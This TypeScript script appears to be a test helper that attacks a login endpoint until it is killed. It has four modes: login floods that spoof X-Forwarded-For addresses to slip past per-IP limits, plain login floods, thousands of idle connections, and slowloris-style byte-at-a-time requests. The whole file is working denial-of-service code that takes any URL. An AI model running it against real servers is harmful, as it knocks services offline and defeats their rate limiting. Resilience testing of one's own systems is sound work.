// Attacks until it is killed.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

export type Attack = 'guesses' | 'logins' | 'idle' | 'slow';

const GUESSES_AT_ONCE = 200;
const LOGINS_AT_ONCE = 32;
const IDLE_CONNECTIONS = 2000;
const SLOW_CALLS = 50;

/** The pause between two bytes of a slow call, in milliseconds. */
const SLOW_MS = 1000;

/** The length of the body that a slow call announces, in bytes. It never ends. */
const SLOW_BODY = 10_000_000;

const [attack, url = '', cookie = '', xsrf = ''] = process.argv.slice(2);
const { hostname, port } = new URL(url);

const isOpen = async (socket: Socket): Promise<boolean> => {
  try {
    await once(socket, 'connect');
    return true;
  } catch {
    return false;
  }
};

/** @param address the address that a proxy reports, for a server behind one. */
async function sendLogins(address?: string): Promise<void> {
  const headers = {
    ...(address !== undefined && { 'x-forwarded-for': address }),
    cookie,
    'x-xsrf-token': xsrf,
    'x-requested-with': 'XMLHttpRequest',
    'content-type': 'application/json',
  };
  for (let number = 0; ; number += 1) {
    const body = JSON.stringify({
      email: `${process.pid}-${address ?? ''}-${number}@waterpas.example`,
      password: 'Geraden-1',
    });
    const response = await fetch(`${url}/api/auth/login`, { method: 'POST', headers, body }).catch(
      () => undefined,
    );
    await response?.arrayBuffer();
  }
}

/** Keeps a connection open without a byte, and opens it again when the server ends it. */
async function keepIdle(): Promise<void> {
  for (;;) {
    const socket = connect(Number(port), hostname);
    if (await isOpen(socket)) {
      socket.resume().on('error', () => undefined);
      await once(socket, 'close');
    } else await wait(SLOW_MS);
  }
}

/** Sends a call a byte at a time: every other one with a whole head and a slow body. */
async function sendSlowly(hasSlowBody: boolean): Promise<void> {
  const start = `POST /api/auth/login HTTP/1.1\r\nhost: ${hostname}\r\n`;
  const head =
    `cookie: ${cookie}\r\nx-xsrf-token: ${xsrf}\r\nx-requested-with: XMLHttpRequest\r\n` +
    `content-type: application/json\r\ncontent-length: ${SLOW_BODY}\r\n\r\n`;
  for (;;) {
    const socket = connect(Number(port), hostname);
    if (await isOpen(socket)) {
      socket.resume().on('error', () => undefined);
      socket.write(hasSlowBody ? start + head : start);
      while (!socket.destroyed) {
        await wait(SLOW_MS);
        socket.write(hasSlowBody ? ' ' : 'x');
      }
    } else await wait(SLOW_MS);
  }
}

const times = (count: number, act: (index: number) => Promise<void>) =>
  Promise.all(Array.from({ length: count }, async (_, index) => act(index)));

const attacks: Record<Attack, () => Promise<unknown>> = {
  guesses: () => times(GUESSES_AT_ONCE, (index) => sendLogins(`198.51.100.${index}`)),
  logins: () => times(LOGINS_AT_ONCE, () => sendLogins()),
  idle: () => times(IDLE_CONNECTIONS, keepIdle),
  slow: () => times(SLOW_CALLS, (index) => sendSlowly(index % 2 === 0)),
};

const isAttack = (name: string | undefined): name is Attack =>
  name !== undefined && Object.hasOwn(attacks, name);
if (isAttack(attack)) await attacks[attack]();
